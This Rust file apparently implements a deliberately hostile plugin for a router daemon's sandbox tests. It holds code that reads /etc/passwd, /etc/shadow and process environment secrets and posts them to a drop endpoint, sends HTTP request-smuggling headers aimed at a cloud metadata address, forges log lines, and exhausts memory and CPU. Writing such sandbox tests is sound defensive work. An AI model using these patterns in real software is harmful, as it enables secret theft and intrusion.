//! A config-source plugin that misbehaves on purpose, for the host's tests.
//! It serves a good spec on start; a request to `/poke` makes it do what
//! `--behaviour` says (or `--at start` does it straight away).

use vpcrouter_plugin_sdk::{
    ConfigSource, Event, HttpRequest, HttpResponse, OptionKind, OptionSpec, Options, PluginInfo,
    Route, RouteSpec, daemon, export_config_source, files, log, outbound, timers,
};

struct Hostile {
    behaviour: String,
    /// Where `connect` tries to reach (`HOST:PORT`).
    target: String,
    /// Misbehave on `started` instead of waiting for a poke.
    at_start: bool,
    /// The file `exfiltrate` reads: the `loot` option as granted, else its
    /// default.
    loot: String,
    /// Router hosts of the specs `churn` makes.
    hosts: Vec<String>,
    /// Timer events seen (`churn` alternates on them).
    ticks: u64,
}

/// Defaults a hostile author would like to be granted.
const LOOT: &str = "/proc/self/environ";

/// The kind `--note` is declared with: text as built. A test makes a "new
/// version" that declares it a file by rewriting these bytes in the
/// component (`...=file`), to see whether a reload turns the operator's
/// text into a grant.
static NOTE_KIND: &str = "vpcrouter-test-note-kind=text";

fn note_kind() -> OptionKind {
    match std::hint::black_box(NOTE_KIND).ends_with("=file") {
        true => OptionKind::File,
        false => OptionKind::Text,
    }
}

fn good_spec() -> RouteSpec {
    vec![Route {
        cidr: "10.55.16.0/24".into(),
        hosts: vec!["10.33.20.142".into()],
    }]
}

/// 1,000 CIDRs of `hosts` hosts each.
fn wide_spec(hosts: u32) -> RouteSpec {
    cidrs(10, 1000)
        .map(|cidr| Route {
            cidr,
            hosts: (0..hosts)
                .map(|h| format!("172.16.{}.{}", h / 250, h % 250 + 1))
                .collect(),
        })
        .collect()
}

/// `count` CIDRs `FIRST.x.y.0/24`.
fn cidrs(first: u32, count: u32) -> impl Iterator<Item = String> {
    (0..count).map(move |c| format!("{first}.{}.{}.0/24", c / 256, c % 256))
}

impl Hostile {
    /// `churn`: every 100 ms a spec of 1,000 CIDRs that shares none with
    /// the last one (every route deleted and created again), while logging
    /// and printing as much as the host lets it.
    fn churn(&mut self) -> RouteSpec {
        self.ticks += 1;
        let line = "c".repeat(64 << 10);
        for _ in 0..100 {
            log!(Warn, "{line}");
        }
        println!("{line}");
        let first = if self.ticks.is_multiple_of(2) { 10 } else { 11 };
        let hosts = &self.hosts;
        cidrs(first, 1000)
            .enumerate()
            .map(|(i, cidr)| Route {
                cidr,
                hosts: vec![hosts[i % hosts.len()].clone()],
            })
            .collect()
    }

    fn misbehave(&self) -> Result<Option<RouteSpec>, String> {
        match self.behaviour.as_str() {
            "loop" => loop {
                std::hint::black_box(());
            },
            "membomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "trap" => panic!("hostile plugin panics on purpose"),
            // 15,000 CIDRs' worth of route tables, 16 names each, none of
            // them CIDRs of the spec it returns (~9 MB of its memory).
            "tables-flood" => {
                let scopes: Vec<daemon::RouteTables> = cidrs(12, 15_000)
                    .map(|cidr| daemon::RouteTables {
                        cidr,
                        tables: (0..16).map(|t| format!("rtb-{t:08x}")).collect(),
                    })
                    .collect();
                daemon::set_route_tables(&scopes);
                Ok(Some(good_spec()))
            }
            "invalid" => Ok(Some(vec![Route {
                cidr: "10.1.2.3/33".into(),
                hosts: vec!["nope".into()],
            }])),
            "steal" => {
                let via_host = files::read_file("/etc/passwd").err().unwrap_or_default();
                let via_wasi = std::fs::read("/etc/passwd")
                    .err()
                    .map(|e| e.to_string())
                    .unwrap_or_default();
                Err(format!("host said: {via_host}; wasi said: {via_wasi}"))
            }
            // Read what its own defaults point at and post it out: the
            // defaults grant nothing, so both must be refused.
            "exfiltrate" => {
                let loot = files::read_file(&self.loot);
                let request = outbound::OutboundRequest {
                    method: "POST".into(),
                    path: "/loot".into(),
                    headers: vec![],
                    body: loot.clone().unwrap_or_default(),
                    timeout_ms: 500,
                };
                let sent = outbound::send(&request).map(|r| r.status);
                Err(format!(
                    "read: {}; sent: {sent:?}",
                    match loot {
                        Ok(bytes) => String::from_utf8_lossy(&bytes).into_owned(),
                        Err(e) => e,
                    }
                ))
            }
            // Work for a second (a big first load, say), then answer.
            "busy" => {
                let started = std::time::Instant::now();
                while started.elapsed() < std::time::Duration::from_secs(1) {
                    std::hint::black_box(());
                }
                Ok(Some(good_spec()))
            }
            // exit() as a C or Python program would.
            "exit" => std::process::exit(3),
            // Just over 1 MiB as JSON: 1,000 CIDRs of 100 hosts.
            "oversize" => Ok(Some(wide_spec(100))),
            // The largest spec the guest's memory holds: 1,000 CIDRs of
            // 1,000 hosts (~14 MB as JSON, ~34 MB in the host's memory).
            "huge" => Ok(Some(wide_spec(1000))),
            "many-routes" => Ok(Some(
                cidrs(10, 2000)
                    .map(|cidr| Route {
                        cidr,
                        hosts: vec![],
                    })
                    .collect(),
            )),
            // Framing headers of its own, and a length that lies.
            "smuggle" => {
                let request = outbound::OutboundRequest {
                    method: "POST".into(),
                    path: "/x".into(),
                    headers: vec![
                        ("Host".into(), "169.254.169.254".into()),
                        ("Content-Length".into(), "5".into()),
                        ("Transfer-Encoding".into(), "chunked".into()),
                        ("Connection".into(), "keep-alive".into()),
                        ("X-Plugin".into(), "yes".into()),
                    ],
                    body: vec![b'b'; 100],
                    timeout_ms: 500,
                };
                let sent = outbound::send(&request).map(|r| r.status);
                Err(format!("sent: {sent:?}"))
            }
            "connect" => {
                let request = outbound::OutboundRequest {
                    method: "GET".into(),
                    path: "/".into(),
                    headers: vec![],
                    body: vec![],
                    timeout_ms: 500,
                };
                let via_host = outbound::send(&request).err().unwrap_or_default();
                let via_wasi = std::net::TcpStream::connect(self.target.as_str())
                    .err()
                    .map(|e| e.to_string())
                    .unwrap_or_default();
                Err(format!("host said: {via_host}; wasi said: {via_wasi}"))
            }
            // Text meant to start lines of its own in the daemon's log.
            "forge" => {
                let fake = "2026-12-02T00:00:00.000000Z  INFO route replaced table=rtb-a cidr=0.0.0.0/0 host=6.6.6.6";
                log!(Warn, "ok\n{fake}\r\n{fake}");
                Err(format!("bad\n{fake}\rforged"))
            }
            // Use up its own log budget, then do what the daemon must
            // report (a denied read).
            "noisy" => {
                for _ in 0..1000 {
                    log!(Warn, "noise");
                }
                let _ = files::read_file("/etc/shadow");
                Err("done making noise".into())
            }
            other => Err(format!("unknown behaviour {other}")),
        }
    }
}

impl ConfigSource for Hostile {
    fn describe() -> PluginInfo {
        PluginInfo {
            name: "hostile".into(),
            version: "0.0.1".into(),
            description: "Misbehaves on purpose".into(),
            options: vec![
                OptionSpec::text(
                    "behaviour",
                    "loop | membomb | trap | invalid | steal | connect | exfiltrate | headers | \
                     exit | oversize | huge | many-routes | smuggle | churn | busy | forge | noisy",
                )
                .required(),
                OptionSpec::text("target", "HOST:PORT that `connect` tries")
                    .default_value("127.0.0.1:9"),
                OptionSpec::text("at", "poke | start | init").default_value("poke"),
                OptionSpec::text("hosts", "Router hosts of `churn` specs")
                    .default_value("10.33.20.142"),
                OptionSpec::file("loot", "File `exfiltrate` reads").default_value(LOOT),
                OptionSpec::of_kind("note", "A note (its kind: see NOTE_KIND)", note_kind()),
                OptionSpec::of_kind("drop_host", "Where loot goes", OptionKind::EndpointHost)
                    .default_value("127.0.0.1"),
                OptionSpec::of_kind("drop_port", "Where loot goes", OptionKind::EndpointPort)
                    .default_value("9"),
            ],
            http_paths: vec!["/poke".into()],
        }
    }

    fn init(options: Options) -> Result<Self, String> {
        let behaviour = options.require("behaviour")?.to_string();
        let at_start = match options.get("at").unwrap_or("poke") {
            "poke" => false,
            "start" => true,
            "init" => return Err(format!("refusing to start ({behaviour})")),
            other => return Err(format!("--at {other:?}: expected poke, start or init")),
        };
        Ok(Self {
            behaviour,
            target: options.require("target")?.to_string(),
            at_start,
            loot: options.get("loot").unwrap_or(LOOT).to_string(),
            hosts: options
                .require("hosts")?
                .split(',')
                .map(String::from)
                .collect(),
            ticks: 0,
        })
    }

    fn on_event(&mut self, event: Event) -> Result<Option<RouteSpec>, String> {
        match event {
            Event::Started if self.behaviour == "churn" => {
                timers::set_timer(100);
                Ok(Some(self.churn()))
            }
            Event::Timer if self.behaviour == "churn" => Ok(Some(self.churn())),
            Event::Started if self.at_start => self.misbehave(),
            Event::Started => Ok(Some(good_spec())),
            Event::Timer | Event::FileChanged(_) => Ok(None),
        }
    }

    fn handle_http(&mut self, request: HttpRequest) -> (HttpResponse, Option<RouteSpec>) {
        // Whatever the method: show what reached the plugin, and change
        // the spec (a GET should not, but a plugin may).
        if self.behaviour == "headers" {
            let seen: Vec<String> = request
                .headers
                .iter()
                .map(|(name, value)| format!("{name}: {value}"))
                .collect();
            let spec = vec![Route {
                cidr: "10.66.0.0/16".into(),
                hosts: vec!["10.33.20.143".into()],
            }];
            return (HttpResponse::text(200, &seen.join("\n")), Some(spec));
        }
        match self.misbehave() {
            Ok(spec) => (HttpResponse::text(200, "poked"), spec),
            Err(e) => (HttpResponse::text(500, &e), None),
        }
    }
}

export_config_source!(Hostile);
